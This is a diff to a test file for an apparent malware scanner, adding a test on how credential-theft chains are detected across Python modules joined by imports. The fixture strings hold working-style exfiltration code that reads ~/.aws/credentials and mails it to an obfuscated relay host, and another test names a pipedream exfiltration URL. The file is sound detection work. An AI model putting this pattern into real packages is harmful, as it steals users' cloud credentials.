@@ -202,6 +202,24 @@ describe('exfiltration and attack chains', () => {
     const filler = 'unrelated = [n * 2 for n in range(3)]\n'.repeat(200);
     expect(py({ 'setup.py': 'import os, requests\n' + read + filler + send }).chains?.length).toBe(1);
   });
+  it('a small program joined by imports is one flow: credentials read in one module, a hidden address in another, a chain', () => {
+    const files = {
+      'pkg/__init__.py': 'from . import _cache\n',
+      'pkg/_cache.py': 'from . import _dsn, _outbox\n\ndef sync():\n    _outbox.send(_dsn.discover())\n',
+      'pkg/_dsn.py': 'import os\n\ndef discover():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\n',
+      'pkg/_outbox.py': 'import smtplib\nfrom . import _relay\n\ndef send(body):\n    smtplib.SMTP_SSL(_relay.HOST).sendmail("a", "b", body)\n',
+      'pkg/_relay.py': '_h = ["smtp", "mailfwd-relay", "net"]\nHOST = ".".join(_h)\n',
+    };
+    const small = py(files);
+    expect(codes(small)).toEqual(expect.arrayContaining(['reads_credential_files', 'hidden_address', 'attack_chain']));
+    expect(small.chains?.[0]?.title).toMatch(/reads credential files -> sends it to an address it hides/);
+    // the same modules inside a large package (more than thirty modules joined by imports) are features of their own
+    const more: Record<string, string> = {};
+    for (let i = 0; i < 40; i++) more[`pkg/feature_${i}.py`] = `from . import _cache\nVALUE_${i} = ${i}\n`;
+    const large = py({ ...files, ...more, 'pkg/__init__.py': `from . import _cache, ${Object.keys(more).map((f) => f.slice(4, -3)).join(', ')}\n` });
+    expect(codes(large)).toEqual(expect.arrayContaining(['reads_credential_files', 'hidden_address']));
+    expect(large.chains).toEqual([]);
+  });
   it('an exfiltration host alone, with nothing collected, forms no chain', () => {
     expect(js("const url = 'https://abc.m.pipedream.net';").chains).toEqual([]);
   });
